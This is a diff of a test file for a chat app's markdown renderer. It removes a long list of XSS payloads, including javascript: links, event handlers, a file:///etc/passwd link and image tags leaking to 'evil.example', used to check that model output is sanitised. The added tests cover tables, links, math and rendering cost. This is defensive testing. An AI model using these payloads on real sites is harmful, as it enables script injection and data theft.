@@ -1,159 +1,118 @@
-"""Model output is hostile: what of it may reach the page as HTML."""
+"""What models write, as it is shown."""
 
 from __future__ import annotations
 
-from html.parser import HTMLParser
+import re
+import sys
+from pathlib import Path
+from types import FrameType
+from typing import Any
 
 import pytest
 
-from llm_hoster.chat.markdown import ATTRIBUTES, TAGS, find_block_end, render_markdown
+from llm_hoster.chat.links import leads_away
+from llm_hoster.chat.markdown import render_markdown
 
-ATTACKS = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(1)>",
-    "<svg onload=alert(1)>",
-    "<svg><script>alert(1)</script></svg>",
-    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<iframe src='javascript:alert(1)'></iframe>",
-    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
-    "<object data='javascript:alert(1)'></object>",
-    "<embed src='javascript:alert(1)'>",
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-    "<form action='/logout' method=post><button>free GPUs</button></form>",
-    "<base href='https://evil.example/'>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<link rel=stylesheet href='https://evil.example/x.css'>",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<div style='position:fixed;inset:0'>cover</div>",
-    "<div hx-get='/api-address' hx-trigger='load' hx-target='body'>x</div>",
-    "<div data-hx-get='/api-address' data-hx-trigger='load'>x</div>",
-    "<div data-events='/chat'>x</div>",
-    "<button data-copy='api-key'>x</button>",
-    "<a id='composer' name='message'>x</a>",
-    "<p class='error' role='alert'>log in again at evil.example</p>",
-    "<video src=x onerror=alert(1)>",
-    "<audio src=x onerror=alert(1)>",
-    "<details open ontoggle=alert(1)>",
-    "<body onload=alert(1)>",
-    "<input autofocus onfocus=alert(1)>",
-    "<marquee onstart=alert(1)>",
-    "<template><script>alert(1)</script></template>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
-    "<!--><img src=x onerror=alert(1)>-->",
-    "<![CDATA[<img src=x onerror=alert(1)>]]>",
-    "<?xml version='1.0'?><x onclick=alert(1)>",
-    "<plaintext>",
-    "<textarea><script>alert(1)</script>",
-    "</li></ol></main><script>alert(1)</script>",
-    "<img src='https://evil.example/?leak=1'>",
-    "![remote](https://evil.example/?leak=1)",
-    "![data](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
-    "![x](x \"onerror=alert(1)\")",
-    "[click](javascript:alert(1))",
-    "[click](JaVaScRiPt:alert(1))",
-    "[click](java\tscript:alert(1))",
-    "[click](java&#x0A;script:alert(1))",
-    "[click](&#106;avascript:alert(1))",
-    "[click](\x01javascript:alert(1))",
-    "[click](vbscript:msgbox(1))",
-    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "[click](file:///etc/passwd)",
-    "[click](blob:https://portal.example.org/x)",
-    "[log out](/logout)",
-    "[other session](/rnode/other/8080/)",
-    "[scheme relative](//evil.example/x)",
-    "[dashboard](../../../pun/sys/dashboard)",
-    "<javascript:alert(1)>",
-    "[ref]: javascript:alert(1)\n\n[ref]",
-    "[title](https://example.org 'x\" onclick=\"alert(1)')",
-    "[quote](https://example.org/\"onmouseover=\"alert(1))",
-    "```<script>alert(1)</script>\nx\n```",
-    "```x\" onclick=\"alert(1)\nx\n```",
-    "```language-x\" hx-get=\"/\nx\n```",
-    "`<img src=x onerror=alert(1)>`",
-    "| a |\n|:-:|\n| <img src=x onerror=alert(1)> |",
-    "# <img src=x onerror=alert(1)>",
-    "- <script>alert(1)</script>",
-    "> <iframe src=//evil.example>",
-    "<scr\0ipt>alert(1)</scr\0ipt>",
-    "\u202e<script>alert(1)</script>",
-    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
-    "<a href='javas\u0000cript:alert(1)'>x</a>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;img src=x onerror=alert(1)&#62;",
-    "*" * 5000,
-    "[" * 5000,
-    ">" * 500 + "x",
-    "<" * 5000,
-]  # fmt: skip
+LINK = '<a href="{0}" title="{0}" target="_blank" rel="noopener noreferrer nofollow">{1}</a>'
 
 
-class Inspector(HTMLParser):
-    """Read HTML as a browser does, and note every tag and attribute."""
-
-    def __init__(self) -> None:
-        super().__init__()
-        self.seen: list[tuple[str, dict[str, str | None]]] = []
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self.seen.append((tag, dict(attrs)))
-
-    def handle_comment(self, data: str) -> None:
-        self.seen.append(("comment", {}))
-
-
-def inspect(html: str) -> list[tuple[str, dict[str, str | None]]]:
-    inspector = Inspector()
-    inspector.feed(html)
-    inspector.close()
-    return inspector.seen
-
-
-@pytest.mark.parametrize("attack", ATTACKS, ids=range(len(ATTACKS)))
-def test_an_attack_leaves_nothing_that_acts_or_loads(attack: str) -> None:
-    for tag, attributes in inspect(render_markdown(attack)):
-        assert tag in TAGS
-        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | ({"rel"} if tag == "a" else set())
-        href = attributes.get("href")
-        assert href is None or href.startswith(("http://", "https://", "mailto:"))
-
-
-@pytest.mark.parametrize("attack", ATTACKS[:60], ids=range(60))
-def test_an_attack_cut_anywhere_leaves_nothing_either(attack: str) -> None:
-    for end in range(1, len(attack)):
-        for tag, attributes in inspect(render_markdown(attack[:end]) + render_markdown(attack[end:])):
-            assert tag in TAGS
-            assert not [name for name in attributes if name.startswith(("on", "hx-", "data-", "style", "id", "src"))]
+def code(title: str, attribute: str, text: str) -> str:
+    return (
+        f'<div class="code-block"><div class="code-head">{title}</div>'
+        f'<pre tabindex="0"><code{attribute}>{text}</code></pre></div>\n'
+    )
 
 
 @pytest.mark.parametrize(("text", "html"), [
     ("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>\n"),
     ("# Title", "<h3>Title</h3>\n"),
-    ("3. x", '<ol start="3">\n<li>x</li>\n</ol>\n'),
-    ("```python\nx<1\n```", '<pre><code class="language-python">x&lt;1\n</code></pre>\n'),
-    ("[a](https://e.org)",
-     '<p><a href="https://e.org" target="_blank" rel="noopener noreferrer nofollow">a</a></p>\n'),
+    ("a\nb", "<p>a<br>\nb</p>\n"),
+    ("3. x", '<ol start="3">\n<li>\n<p>x</p>\n</li>\n</ol>\n'),
+    ("- a\n  1. b", "<ul>\n<li>\n<p>a</p>\n<ol>\n<li>\n<p>b</p>\n</li>\n</ol>\n</li>\n</ul>\n"),
+    ("- [ ] a\n- [x] b",
+     '<ul>\n<li class="task">\n<p>☐ a</p>\n</li>\n<li class="task">\n<p>☑ b</p>\n</li>\n</ul>\n'),
+    ("```py\nx<1\n```", code("Python", ' class="language-python"', "x&lt;1\n")),
+    ("```Fortran\n```", code("Fortran", ' class="language-fortran"', "")),
+    ("```brainf<b>\n+\n```", code("brainf&lt;b&gt;", "", "+\n")),
+    ("```mermaid\ngraph\n```", code("Mermaid", "", "graph\n")),
+    ("    x", code("", "", "x\n")),
+    ("a[^1]\n\n[^1]: Note", "<p>a<sup>1</sup></p>\n<p><sup>1</sup> Note</p>\n"),
+    ("\u202eabc\u2066", "<p>\ufffdabc\ufffd</p>\n"),
 ])  # fmt: skip
 def test_what_models_write_is_rendered(text: str, html: str) -> None:
     assert render_markdown(text) == html
 
 
-def test_a_table_is_rendered() -> None:
-    assert "<td>1</td>" in render_markdown("| a |\n|---|\n| 1 |")
+def test_a_table_scrolls_in_a_box_of_its_own_and_keeps_its_alignment() -> None:
+    html = render_markdown("| a | b | c |\n|---|--:|:-:|\n| 1 | 2 | 3 |")
+
+    assert html.startswith('<div class="table-box" tabindex="0"><table>\n<thead>')
+    assert '<td>1</td>\n<td class="right">2</td>\n<td class="center">3</td>' in html
 
 
-@pytest.mark.parametrize(("text", "finished"), [
-    ("one", ""),
-    ("one\n\n", ""),
-    ("one\n\ntwo", "one\n\n"),
-    ("one\n\ntwo\n\nthree", "one\n\ntwo\n\n"),
-    ("- a\n\n- b", ""),
-    ("- a\n\n  more", ""),
-    ("1. a\n\n2. b\n\nend", "1. a\n\n2. b\n\n"),
-    ("```\na\n\nb\n\n", ""),
-    ("```\na\n\nb\n```\n\nend", "```\na\n\nb\n```\n\n"),
-    ("````\n```\n\nx", ""),
-    ("~~~\na\n\n```\n\nb", ""),
+@pytest.mark.parametrize(("text", "shown"), [
+    ("[a](https://e.org 'harmless')", LINK.format("https://e.org", "a")),
+    ("see https://e.org/x.", "see " + LINK.format("https://e.org/x", "https://e.org/x") + "."),
+    ("https://ex\u0430mple.org", LINK.format("https://xn--exmple-4nf.org", "https://ex\u0430mple.org")),
+    ("[a](mailto:a@b.org)", LINK.format("mailto:a@b.org", "a")),
+    ("![a plot](https://e.org/x.png)", LINK.format("https://e.org/x.png", "image: a plot (e.org)")),
+    ("[![a](https://e.org/x.png)](https://f.org)", LINK.format("https://f.org", "image: a (e.org)")),
+    ("[out](/logout)", "[out](/logout)"),
+    ("![a](static/icon.svg)", "![a](static/icon.svg)"),
+    ("e.org, a@b.org and ftp://e.org", "e.org, a@b.org and ftp://e.org"),
 ])  # fmt: skip
-def test_a_block_has_ended_when_the_next_begins_anew(text: str, finished: str) -> None:
-    assert text[: find_block_end(text, 0)] == finished
+def test_a_link_says_where_it_leads_and_nothing_relative_is_one(text: str, shown: str) -> None:
+    assert render_markdown(text) == f"<p>{shown}</p>\n"
+
+
+@pytest.mark.parametrize("address", [
+    "https://", "https:///x", "https://[::1", "http:e.org", "//e.org", "/logout", "javascript:alert(1)", " https://e.org",
+])  # fmt: skip
+def test_what_names_no_host_leads_nowhere(address: str) -> None:
+    assert not leads_away(address)
+
+
+@pytest.mark.parametrize(("text", "formulas"), [
+    ("$x$ and ($y_1$), $\\$5$.", ["$x$", "$y_1$", "$\\$5$"]),
+    ("\\(a\\) \\[b\\] $$c$$", ["\\(a\\)", "\\[b\\]", "$$c$$"]),
+    ("$$\na\n- b\n$$", ["$$\na\n- b\n$$"]),
+    ("\\[\nx &amp; y\n\\]", ["\\[\nx &amp;amp; y\n\\]"]),
+    ("- a\n  $$\n  b\n  $$", ["$$\nb\n$$"]),
+    ("| $a$ |\n|---|\n| $b|c$ |", ["$a$"]),
+    ("It costs $5 and $10, or US$5 to US$6, $5/month, $5-$10, $1.5 million or 2$.", []),
+    ("$HOME:$PATH, $ x$, $x $, $$ $$, \\$x$", []),
+    ("`$x$`", []),
+    ("$$a\n\nb$$", []),
+    ("$" + "x" * 5000 + "$ \\(" + "x" * 5000 + "\\)", []),
+])  # fmt: skip
+def test_formulas_are_found_and_prices_are_none(text: str, formulas: list[str]) -> None:
+    html = render_markdown(text)
+
+    assert [
+        part.split("</span>")[0] for part in re.split(r'<span class="math(?: math-display)?">', html)[1:]
+    ] == formulas
+
+
+@pytest.mark.parametrize("begin", [
+    "$a ", "$$ ", "\\( ", "\\[ ", "\\[\n", "$$\n", "$1 a", "[^a", "[^a]: x\n", "https://a.b/(x ", "![a](", "- [ ] a\n",
+])  # fmt: skip
+def test_what_begins_again_and_again_costs_no_more_than_its_length(begin: str) -> None:
+    """Counted in lines of our own rules, which look for an end: four times the text, at most six times the lines."""
+    assert lines_run(begin * (4_000 // len(begin))) < 6 * lines_run(begin * (1_000 // len(begin))) + 1000
+
+
+def lines_run(text: str) -> int:
+    count = 0
+
+    def trace(frame: FrameType, event: str, _: Any) -> Any:
+        nonlocal count
+        count += event == "line"
+        return trace if Path(frame.f_code.co_filename).parent.name == "chat" else None
+
+    previous = sys.gettrace()
+    sys.settrace(trace)
+    try:
+        render_markdown(text)
+    finally:
+        sys.settrace(previous)
+    return count
